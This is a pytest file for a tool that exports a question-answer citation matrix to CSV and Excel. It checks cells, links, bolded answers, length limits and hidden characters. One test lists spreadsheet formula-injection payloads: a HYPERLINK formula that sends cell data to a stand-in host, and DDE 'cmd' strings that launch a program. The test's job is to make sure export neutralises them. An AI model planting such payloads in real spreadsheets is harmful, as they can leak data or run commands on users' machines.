"""A matrix as CSV and as a workbook: what they contain and what they never run."""

import csv
import io
import json
import zipfile

import openpyxl
import pytest
from openpyxl.cell.rich_text import CellRichText

from qa.citations.table_citations import guard_cell
from qa.matrix.filling import fill_matrix
from qa.matrix.spreadsheets import COLUMNS, write_csv, write_workbook
from qa.matrix.workbook_writer import MAX_CELL_LENGTH
from tests.qa.matrix.tables import (
    QUESTIONS,
    lines_of,
    statuses,
)


def test_the_lines_have_every_cell_with_its_sentence_and_place(matrix):
    lines = lines_of(write_csv(matrix))
    assert len(lines) == matrix.size
    assert list(lines[0]) == list(COLUMNS)
    stated = [line for line in lines if line["result"] == "stated"]
    assert {line["answer"] for line in stated} >= {"seven"}
    for line in lines:
        cell = json.loads(line["citation"] or "null")
        assert (line["result"] == "not stated") == (cell is None)
        if cell:
            article = matrix.index.articles[cell["article"]["id"]]
            assert line["sentence"] == article.text[cell["start"] : cell["end"]]
            assert line["answer"] in line["sentence"]
            assert (
                line["link"].endswith(f"#cite={article.id}:{cell['start']}-{cell['end']}")
                or "#:~:text=" in line["link"]
            )


def test_the_workbook_marks_the_answer_and_links_each_cell_to_its_place(matrix):
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)), rich_text=True)["Table"]
    assert sheet.max_row == len(matrix.columns) + 1
    assert sheet.max_column == len(matrix.questions) + 1
    for row, column in enumerate(matrix.columns, start=2):
        for place, question in enumerate(matrix.questions, start=2):
            cell, shown = matrix.cell(question, column), sheet.cell(row, place)
            quote = cell.quote(matrix.index)
            if quote is None:
                assert str(shown.value) == "not stated"
                continue
            assert str(shown.value).removeprefix("closest: ") == quote.text
            target = shown.hyperlink.target or ""
            assert f"{quote.start}-{quote.end}" in f"{target}#{shown.hyperlink.location}" or ":~:text=" in target
            if quote.span:
                assert isinstance(shown.value, CellRichText)
                assert quote.span.text in {part.text for part in shown.value if hasattr(part, "font") and part.font.b}


@pytest.mark.parametrize("by", ["articles", "all"])
def test_questions_go_down_where_there_is_one_column(by, shipped):
    matrix = fill_matrix(QUESTIONS, index=shipped, by=by)
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))["Table"]
    down = [str(cell.value) for cell in sheet["A"][1:]]
    assert (down == list(matrix.questions)) == (by == "all")


FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_runs_as_a_formula(formula, build_hostile):
    text = f"{formula} is what the harbour of Aktau pays to the mayor of the town."
    index = build_hostile(text, title=formula, source=formula)
    matrix = fill_matrix([f"{formula} harbour of Aktau", "What does the harbour of Aktau pay?"], index=index)
    assert {cell.state for cell in matrix.cells.values()} & {"stated", "closest"}
    for line in csv.reader(io.StringIO(write_csv(matrix), newline="")):
        assert not [cell for cell in line if cell[:1] in tuple("=+-@\t\r")]
    content = write_workbook(matrix)
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert not [name for name in package.namelist() if b"<f>" in package.read(name)]
    assert statuses(content, "table.xlsx", index) == statuses(write_csv(matrix).encode(), "t.csv", index) == {"ok"}


def test_hidden_and_control_characters_are_shown_and_still_verified(build_hostile):
    text = "The harbour of Aktau pays \u202e000,9\u202c tenge to the mayor\u200b of the town, \x07he said."
    matrix = fill_matrix(["What does the harbour of Aktau pay?"], index=build_hostile(text, title="a\u202eb\x07"))
    table, content = write_csv(matrix), write_workbook(matrix)
    assert "\u202e" not in table
    assert "\x07" not in table
    assert statuses(table.encode(), "t.csv", matrix.index) == statuses(content, "t.xlsx", matrix.index) == {"ok"}


def test_a_sentence_longer_than_a_cell_is_cut_in_the_table_and_left_out_of_the_lines(build_hostile):
    text = f"The harbour of Aktau pays {'very ' * 8000}much to the mayor of the town."
    matrix = fill_matrix(["What does the harbour of Aktau pay?"], index=build_hostile(text))
    if not next(iter(matrix.cells.values())).article_id:
        pytest.skip("the sentence is not quoted")
    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook(matrix)))
    assert all(len(str(cell.value)) <= MAX_CELL_LENGTH for row in workbook["Table"].iter_rows() for cell in row)
    assert statuses(write_csv(matrix).encode(), "t.csv", matrix.index) == {"ok"}


def test_a_guarded_cell_begins_with_an_apostrophe():
    assert guard_cell("=1") == "'=1"
    assert guard_cell("1=1") == "1=1"
